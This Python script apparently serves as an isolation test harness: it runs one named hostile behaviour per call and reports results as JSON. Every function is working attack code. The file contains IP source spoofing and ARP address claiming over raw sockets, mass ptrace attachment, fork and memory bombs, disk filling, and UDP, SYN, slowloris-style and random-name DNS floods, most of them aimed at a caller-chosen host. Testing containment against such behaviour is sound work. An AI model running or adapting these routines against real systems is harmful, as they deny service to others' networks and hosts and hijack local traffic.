"""What a hostile program tries. The first argument says what; where there is something to tell, it is one line of JSON."""

import ctypes
import json
import os
import random
import socket
import struct
import sys
import threading
import time


def tell(**facts):
    print(json.dumps(facts), flush=True)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_header(source, target, protocol, length):
    fields = (0x45, 0, 20 + length, 0, 0, 64, protocol, 0)
    head = struct.pack("!BBHHHBBH4s4s", *fields, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:]


def udp_packet(source, target, port, text):
    return ip_header(source, target, 17, 8 + len(text)) + struct.pack("!HHHH", 4711, port, 8 + len(text), 0) + text


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("10.255.255.1", 9))
        return probe.getsockname()[0]


def ethernet():
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(("eth0", 0))
    with open("/sys/class/net/eth0/address") as file:
        own = bytes.fromhex(file.read().strip().replace(":", ""))
    return link, own


def spoof(target, port, *sources):
    """Packets that say they are from others, past the routing of its own kernel; the last one is honest."""
    link, own = ethernet()
    gateway = b"\xff" * 6
    for source in sources:
        packet = udp_packet(source, target, int(port), source.encode())
        for _ in range(3):
            link.send(gateway + own + b"\x08\x00" + packet)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for source in sources:
        raw.sendto(udp_packet(source, target, int(port), source.encode()), (target, 0))
    honest = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    honest.sendto(b"honest", (target, int(port)))
    tell(sent=len(sources))


def claim(*addresses):
    """Says by ARP, unasked and as an answer, that these addresses are here."""
    link, own = ethernet()
    for address in addresses:
        claimed = socket.inet_aton(address)
        for operation in (1, 2):
            arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, own, claimed, b"\xff" * 6, claimed)
            link.send(b"\xff" * 6 + own + b"\x08\x06" + arp)
    tell(claimed=len(addresses))


def ptrace():
    """Attaches to every process there is a number for, but its container's own."""
    libc = ctypes.CDLL(None, use_errno=True)
    own = {1, os.getpid()}
    attached = [pid for pid in range(1, 32768) if pid not in own and libc.ptrace(16, pid, 0, 0) == 0]
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    tell(attached=attached, seen=len(seen))


def fork_bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def memory_bomb():
    kept = []
    while True:
        kept.append(bytearray(os.urandom(1024)) * 1024)


def fill(folder):
    """Files of a megabyte, a hundred a second, as many as there is room for."""
    block = os.urandom(1024 * 1024)
    for number in range(1_000_000):
        with open(f"{folder}/{number}", "wb") as file:
            file.write(block)
        time.sleep(0.01)


def chatter():
    line = "x" * 1023 + "\n"
    while True:
        sys.stdout.write(line)


def datagrams(host, *ports):
    """As fast as it can, from a new port each time: every one is a connection to remember."""
    while True:
        for port in ports or range(1024, 65536):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as each:
                for _ in range(2):
                    try:
                        each.sendto(b"x" * 64, (host, int(port)))
                    except OSError:
                        pass


def half_open(host, port):
    """Connections that are begun and never made."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    source = own_address()
    target = socket.inet_aton(host)
    while True:
        fields = (random.randrange(1024, 65536), int(port), random.getrandbits(32), 0, 5 << 4, 2, 65535, 0, 0)
        head = struct.pack("!HHIIBBHHH", *fields)
        pseudo = socket.inet_aton(source) + target + struct.pack("!BBH", 0, 6, len(head))
        head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
        raw.sendto(ip_header(source, host, 6, len(head)) + head, (host, 0))


def connections(host, port):
    """As many as it may have, each with half a request, all kept."""
    kept = []
    while True:
        try:
            each = socket.create_connection((host, int(port)), timeout=1)
            each.send(b"GET / HTTP/1.1\r\nhost: ")
            kept.append(each)
        except OSError:
            time.sleep(0.01)


def names(host):
    """Names that nobody has, asked for as fast as possible by four at once."""

    def ask(suffix):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as each:
            number = 0
            while True:
                number += 1
                label = f"n{random.getrandbits(40):x}".encode()
                labels = b"".join(bytes([len(part)]) + part for part in (label, *suffix))
                head = struct.pack("!HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0)
                try:
                    each.sendto(head + labels + b"\0" + struct.pack("!HH", 1, 1), (host, 53))
                except OSError:
                    pass

    for _ in range(4):
        threading.Thread(target=ask, args=((b"default", b"svc", b"cluster", b"local"),)).start()


TRIES = {each.__name__: each for each in (
    spoof, claim, ptrace, fork_bomb, memory_bomb, fill, chatter, datagrams, half_open, connections, names,
)}

if len(sys.argv) > 1:
    TRIES[sys.argv[1]](*sys.argv[2:])
else:
    threading.Event().wait()
